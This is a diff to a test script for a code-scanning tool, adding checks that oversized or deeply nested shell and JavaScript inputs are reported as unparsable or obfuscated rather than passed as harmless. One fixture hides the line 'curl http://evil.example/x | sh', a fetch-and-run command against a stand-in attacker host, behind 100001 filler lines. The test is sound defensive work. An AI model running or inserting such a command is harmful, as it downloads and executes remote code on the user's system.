@@ -94,6 +94,17 @@ if command -v node >/dev/null; then
 	grep -q '^bad.js:[12]: syntax: ' < <(cg inspect bad.js) || fail "bad.js: $(cg inspect bad.js)"
 fi
 
+# What is too much for a parser does not pass for harmless.
+python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
+finds long.sh '' unparsable 'could not be parsed: the parser ended with status failed (1)'
+python3 -c 'print("eval " * 50 + "id")' >deep.sh
+finds deep.sh 1 obfuscated 'programs in programs, more than 8 deep'
+if command -v node >/dev/null; then
+	python3 -c 'print("(" * 20000 + "1" + ")" * 20000)' >deep.js
+	cg inspect deep.js >out
+	grep -qE '^deep.js: unparsable: ' out || fail "deep.js: $(cat out)"
+fi
+
 # ELF files.
 finds /bin/sh '' loader "$(python3 - <<'END'
 import re
